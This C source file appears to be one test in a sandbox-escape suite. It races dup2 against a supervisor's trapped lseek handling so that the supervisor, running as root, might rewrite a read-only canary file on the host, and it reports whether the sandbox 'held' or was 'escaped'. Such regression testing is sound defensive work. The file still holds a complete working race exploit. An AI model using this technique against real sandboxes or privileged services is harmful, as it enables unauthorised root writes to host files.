/* Issue 19, class 3: the rewind race writes host files as root.
 *
 * lseek(fd, 0, SEEK_SET) on a served file is trapped: the supervisor looks
 * the fd up by /proc/<tid>/fd/N, then reopens that path O_RDWR to truncate
 * and re-render it. A second thread dup2s a read-only fd of canary_file over
 * N (and the served file back) in a loop, so that the two lookups see
 * different files. The program never opens canary_file for writing.
 * HELD: canary_file keeps its content through 6 s of racing (the runner
 * also checks content and mode afterwards).
 * Arguments: canary_file=PATH canary_content=TEXT */
#include "escape.h"

#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>

static atomic_bool stop;
static int served, served_copy, canary_ro;

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop)) {
		dup2(canary_ro, served);
		dup2(served_copy, served);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	const char *path = need(argc, argv, "canary_file");
	const char *content = need(argc, argv, "canary_content");
	canary_ro = open(path, O_RDONLY | O_CLOEXEC);
	if (canary_ro < 0)
		setup_error("open %s read-only: %s", path, strerror(errno));
	served = open("/proc/net/dev", O_RDONLY | O_CLOEXEC);
	if (served < 0)
		setup_error("open /proc/net/dev: %s", strerror(errno));
	served_copy = dup(served);
	char first[4096];
	ssize_t len = pread(canary_ro, first, sizeof(first) - 1, 0);
	if (len < 0 || strncmp(first, content, strlen(content)) != 0)
		setup_error("%s does not hold the canary content", path);
	struct stat st0;
	if (fstat(canary_ro, &st0) < 0)
		setup_error("fstat %s: %s", path, strerror(errno));

	pthread_t t;
	if (pthread_create(&t, NULL, swapper, NULL) != 0)
		setup_error("pthread_create");
	double end = now_s() + 6;
	long seeks = 0;
	bool changed = false;
	struct stat st;
	char now[4096];
	while (!changed && now_s() < end) {
		for (int i = 0; i < 200; i++, seeks++)
			lseek(served, 0, SEEK_SET);
		ssize_t n = pread(canary_ro, now, sizeof(now) - 1, 0);
		changed = n != len || memcmp(now, first, (size_t)len) != 0 ||
			  (fstat(canary_ro, &st) == 0 && st.st_mode != st0.st_mode);
		if (n >= 0)
			now[n] = '\0';
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	if (changed)
		escaped("canary_file rewritten through a read-only fd after %ld rewinds: now \"%.60s\"", seeks, now);
	held("canary_file unchanged after %ld rewinds racing dup2", seeks);
}
